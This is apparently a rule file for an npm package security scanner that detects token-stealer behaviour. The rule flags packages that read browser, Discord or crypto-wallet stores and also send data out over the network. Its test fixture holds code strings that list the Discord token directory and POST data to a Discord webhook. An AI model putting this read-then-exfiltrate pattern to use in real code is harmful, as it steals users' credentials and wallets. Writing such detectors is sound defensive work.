import type { JsRule } from '../../analysis/javascript/context.js';
import { allEvents, at } from '../../analysis/javascript/context.js';
import { SRC, sourceNames } from '../../analysis/javascript/sources.js';
import { defineRule } from '../types.js';

const STORES = SRC.browser | SRC.wallet | SRC.discord;

/** Browser, Discord or wallet stores read in a package that also sends data out (across files). */
export const tokenStealer: JsRule = defineRule({
  meta: {
    id: 'npm/token-stealer',
    kind: 'threat',
    category: 'credential-access',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'The package reads browser profiles, Discord token stores or crypto wallets and also sends data to the network or a chat webhook.',
    examples: {
      positive: [
        {
          files: {
            'package.json': '{"name":"p","main":"a.js"}',
            'a.js': "const fs=require('fs'),os=require('os'),path=require('path');exports.t=()=>fs.readdirSync(path.join(os.homedir(),'AppData/Roaming/discord/Local Storage/leveldb'));",
            'b.js': "exports.s=(t)=>fetch('https://discord.com/api/webhooks/1/x',{method:'POST',body:t});",
          },
        },
      ],
      negative: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const fs=require('fs'),os=require('os'),path=require('path');exports.t=()=>fs.readdirSync(path.join(os.homedir(),'AppData/Roaming/discord/Local Storage/leveldb'));" }, note: 'no way out' }],
    },
  },
  check(ctx, report) {
    let read: { file: (typeof ctx.files)[number]; e: (typeof ctx.files)[number]['facts']['events'][number] } | undefined;
    let out = false;
    for (const x of allEvents(ctx)) {
      if (x.e.kind === 'sink' && x.e.sink === 'fs-read' && (x.e.taint & STORES) !== 0) read ??= x;
      if ((x.e.kind === 'sink' && x.e.sink === 'network') || x.e.name === 'webhook-url') out = true;
    }
    if (read === undefined || !out) return;
    const names = sourceNames(read.e.taint & STORES);
    report(at(read.file, read.e, `Reads ${names.join(', ')} stores and the package also sends data to the network: token/wallet stealer behaviour.`, { data: { sources: names } }));
  },
});
